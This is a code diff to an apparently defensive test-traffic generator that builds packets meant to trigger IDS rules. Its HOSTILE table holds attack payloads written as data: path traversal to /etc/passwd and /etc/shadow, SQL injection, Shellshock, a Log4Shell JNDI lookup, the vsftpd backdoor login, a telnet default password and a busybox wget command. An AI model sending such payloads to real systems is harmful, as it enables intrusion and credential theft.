@@ -75,11 +75,19 @@ def mirror(packets=24):
         yield frame.ljust(60, b"\xa5")
 
 
+def attack(number, source, destination):
+    """The packet of one row of HOSTILE."""
+    protocol, port, data, _sids = HOSTILE[number]
+    layer4 = protocol(sport=40000 + number, dport=port)
+    if protocol is TCP:
+        layer4.flags, layer4.seq, layer4.ack = "PA", 1, 1
+    return IP(src=source, dst=destination, id=number) / layer4 / Raw(data)
+
+
 def hostile():
     """Packets that match rules of examples/rules/local.rules: class `quarantine`."""
-    for number, (port, data) in enumerate(HOSTILE):
-        head = IP(src="10.1.0.66", dst="10.2.0.80", id=number)
-        yield lan(head / TCP(sport=40000 + number, dport=port, seq=1, ack=1, flags="PA") / Raw(data))
+    for number in range(len(HOSTILE)):
+        yield lan(attack(number, "10.1.0.66", "10.2.0.80"))
 
 
 def refused():
@@ -90,7 +98,7 @@ def refused():
     yield plain[:24] + b"\0\0" + plain[26:]  # wrong header checksum
     yield plain[:14] + b"\x43" + plain[15:]  # a header of 12 bytes
     yield lan(ARP(psrc="10.1.0.90", pdst="10.1.0.1"))  # not IPv4
-    yield lan(IP(src="10.1.0.90", dst="192.0.2.77") / UDP(sport=9, dport=53) / Raw(b"no SA for it"))
+    yield lan(IP(src="10.1.0.90", dst="192.0.2.77") / UDP(sport=9, dport=9999) / Raw(b"no SA for it"))
     big = IP(src="10.1.0.90", dst="10.2.0.90", flags="DF") / UDP(sport=9, dport=4000) / Raw(b"x" * 1472)
     yield lan(big)  # 1,500 bytes, and ESP needs more
 
@@ -127,8 +135,7 @@ def inbound(flows=3, packets=40):
     )  # fmt: skip
     yield sealed(stranger, web(5, 1, "10.2.0.5", "10.1.0.5"), 1)  # unknown SPI
     yield sealed(sa, web(5, 2, "172.16.0.5", "10.1.0.5"), sequence + 2)  # inside, somebody else's address
-    attack = IP(src="10.2.0.66", dst="10.1.0.10") / TCP(sport=41000, dport=HOSTILE[0][0], flags="PA", seq=1, ack=1)
-    yield sealed(sa, attack / Raw(HOSTILE[0][1]), sequence + 3)  # genuine, and matches a rule
+    yield sealed(sa, attack(0, "10.2.0.66", "10.1.0.10"), sequence + 3)  # genuine, and matches a rule
 
 
 def mixed(*streams):
@@ -152,14 +159,15 @@ def write(path, frames):
             out.write(frame)
 
 
-# Port and payload; the rules of examples/rules/local.rules that each matches
-# are named by `explain`.
+# Protocol, destination port, payload, and the rules of local.rules that match.
 HOSTILE = (
-    (80, b"GET /cgi-bin/../../../../etc/passwd HTTP/1.1\r\nHost: intranet\r\n\r\n"),
-    (80, b"GET /search?q=1%27%20UNION%20SELECT%20password HTTP/1.1\r\nHost: intranet\r\n\r\n"),
-    (80, b"GET / HTTP/1.1\r\nHost: intranet\r\nUser-Agent: () { :;}; /bin/bash -c id\r\n\r\n"),
-    (80, b"GET / HTTP/1.1\r\nHost: intranet\r\nX-Api-Version: ${jndi:ldap://203.0.113.66/a}\r\n\r\n"),
-    (80, b"GET /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n"),
+    (TCP, 21, b"SITE CPFR /etc/shadow\r\n", [9000105]),
+    (TCP, 21, b"USER guest:)\r\n", [9000106]),
+    (TCP, 25, b"VRFY root\r\n", [9000111]),
+    (TCP, 23, b"xc3511\r\n", [9000114]),
+    (TCP, 23, b"cd /tmp; /bin/busybox WGET\r\n", [9000115]),
+    (TCP, 9100, b"\x7fELF\x01\x01\x01" + bytes(9) + b"\x02\x00\x28\x00" + bytes(32), [9000167]),
+    (UDP, 69, b"\0\1../../etc/passwd\0octet\0", [9000078, 9000079]),
 )
 
 
